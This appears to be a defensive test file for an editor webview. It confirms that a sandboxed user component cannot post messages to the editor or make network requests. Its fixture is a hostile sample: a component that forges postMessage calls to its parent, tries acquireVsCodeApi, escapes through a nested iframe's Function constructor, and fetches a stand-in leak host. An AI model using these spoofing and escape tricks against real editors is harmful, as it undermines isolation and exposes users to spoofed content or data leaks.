import assert from "node:assert/strict";
import type { ToPage } from "../../../webview/src/protocol.ts";
import { inChromium } from "../open-page.ts";
import { viewOf } from "./payload-views.ts";
import { componentScript } from "./component-script.ts";
import { openStage, waitUntil } from "./stage.ts";

const file = "snippets/spoof.jsx";
const text = `export const Spoof = () => {
  const [count, setCount] = useState(1);
  useEffect(() => {
    const spoofed = { kind: "missing", missing: { url: "/spoofed", text: "A spoofed page" } };
    parent.postMessage(spoofed, "*");
    const inner = document.createElement("iframe");
    document.body.append(inner);
    try { parent.acquireVsCodeApi().postMessage({ kind: "spoofed" }); } catch {}
    try { new inner.contentWindow.Function("parent.parent.postMessage(" + JSON.stringify(spoofed) + ", '*')")(); } catch {}
    fetch("https://leak.example.test/").catch(() => setCount(5));
  }, []);
  return <button onClick={() => setCount(count + 1)}>Count {count}</button>;
};
`;

/**
 * In the editor's webview, any message to the window could come from the editor, so messages from a component are
 * ignored.
 */
describe("component in the editor's webview", function () {
  this.timeout(240_000);
  const openPage = inChromium();

  it("runs under the webview's own policy and can't send messages to the editor", async () => {
    const stage = await openStage(openPage, { policy: "editor", painter: "real" });
    const { page } = stage;
    const send = (message: ToPage) =>
      page.evaluate(`window.postMessage(JSON.parse(${JSON.stringify(JSON.stringify(message))}), "*")`);
    const view = await viewOf({ name: "component", page: "Words of the page.\n" }, 0);
    const nodes = [{ tag: "#interactive", props: { name: "Spoof", file, component: {} }, children: ["First state"] }];
    const block = { id: "c1", lines: [0, 0], nodes } as const;
    await stage.show({ ...view.page, blocks: [...view.page.blocks, block] }, view.frame);
    const button = page.getByRole("button", { name: "Run component" });
    assert.equal(await button.count(), 0, "the component is offered before the host allows it");
    await send({ kind: "settings", settings: { canRunComponents: true } });
    await button.click();
    await waitUntil(page, "window.posted.some(({ kind, clicked }) => kind === 'runComponent' && clicked === true)");
    await send({
      kind: "component",
      file,
      name: "Spoof",
      state: "script",
      hash: "h",
      ...(await componentScript(file, text)),
    });
    const inside = page.frameLocator("iframe.dw-component-frame");
    await inside.getByText("Count 5").click();
    await inside.getByText("Count 6").waitFor();
    assert.ok(await page.getByText("Words of the page.").isVisible());
    assert.equal(await page.getByText("A spoofed page").count(), 0);
    const { posted: reported, requests } = await stage.outcome();
    assert.deepEqual(requests, []);
    assert.ok(!reported.some(({ kind }) => kind === "spoofed"));
  });
});
